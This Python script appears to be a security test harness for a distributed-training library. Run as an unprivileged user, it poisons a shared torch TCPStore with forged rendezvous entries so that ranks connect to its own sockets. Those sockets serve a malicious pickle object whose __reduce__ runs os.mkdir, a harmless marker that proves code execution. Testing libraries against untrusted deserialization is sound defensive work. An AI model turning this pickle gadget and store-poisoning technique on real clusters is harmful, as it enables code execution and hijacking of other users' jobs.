"""Join and talk on one host; or, as another user, lead the ranks to oneself by what one writes into their store."""

from __future__ import annotations

import contextlib
import json
import os
import pickle
import secrets
import selectors
import socket
import sys
import threading
import time
from dataclasses import asdict
from datetime import timedelta

import torch.distributed as dist

import rankwise as rw
from rankwise._comm.control.protocol import Frame, FrameKind
from rankwise._rendezvous.membership import JoinReply

NOBODY = 65534


class Exploit:
    """Unpickled, it makes a folder."""

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (sys.argv[1],)


def lure(listeners: list[socket.socket], ended: threading.Event) -> None:
    """Send whoever connects what would be unpickled."""
    body = pickle.dumps(Exploit())
    frames = b"".join(Frame(FrameKind.FAILED, "evil", body=body, sequence=number).encode() for number in range(1, 50))
    with selectors.DefaultSelector() as selector:
        for listener in listeners:
            selector.register(listener, selectors.EVENT_READ)
        held = []
        while not ended.is_set():
            for key, _ in selector.select(0.1):
                held.append(key.fileobj.accept()[0])  # type: ignore[union-attr]  # all are sockets
                with contextlib.suppress(OSError):
                    held[-1].sendall(frames)
        for connection in held:
            connection.close()


def intrude() -> None:
    os.setgroups([])
    os.setgid(NOBODY)
    os.setuid(NOBODY)
    run_id, how = os.environ["TORCHELASTIC_RUN_ID"], sys.argv[2]
    world = "default_pg/0//rankwise/1" if how == "adopt" else f"rankwise/{run_id}/0/1/rankwise"
    name = f"rankwise-{secrets.token_hex(16)}"
    ended = threading.Event()
    with socket.create_server(("127.0.0.1", 0)) as remote, socket.socket(socket.AF_UNIX) as local:
        local.bind(f"\0{name}")
        local.listen()
        thread = threading.Thread(target=lure, args=([remote, local], ended))
        thread.start()
        address = {"local": name, "remote": "127.0.0.1", "port": remote.getsockname()[1]}
        said = json.dumps(address | {"secret": "00" * 16})
        answer = json.dumps(asdict(JoinReply(local_rank=0, local_world_size=1, node_rank=1, num_nodes=2)))
        store = dist.TCPStore("127.0.0.1", int(os.environ["MASTER_PORT"]), wait_for_workers=False)
        while not store.check(["ended/0", "ended/1"]):
            store.set(f"{world.removesuffix('/rankwise')}/reply/1", answer)
            for key, value in (("host", "elsewhere"), ("page", said), ("address", said)):
                store.set(f"{world}/{key}/0", value)
            store.set("intruded", "")
        ended.set()
        thread.join()


def join() -> None:
    try:
        with rw.init(timeout=6.0):
            rw.barrier()
    except rw.RankwiseError as error:
        print(type(error).__name__, error)


def adopt() -> None:
    dist.init_process_group("gloo", timeout=timedelta(seconds=6))
    if dist.get_rank() == 1:  # let others write into the store what they like, once rank zero has written
        agents = dist.TCPStore("127.0.0.1", int(os.environ["MASTER_PORT"]), wait_for_workers=False)
        agents.wait(["intruded"], timedelta(seconds=100))
        time.sleep(0.5)
    try:
        rw.barrier(timeout=10.0)
    except rw.RankwiseError as error:
        print(type(error).__name__, error)
    dist.destroy_process_group()


if "INTRUDER" in os.environ:
    intrude()
else:
    try:
        adopt() if sys.argv[2] == "adopt" else join()
    finally:
        agents = dist.TCPStore("127.0.0.1", int(os.environ["MASTER_PORT"]), wait_for_workers=False)
        agents.set(f"ended/{os.environ['RANK']}", "")
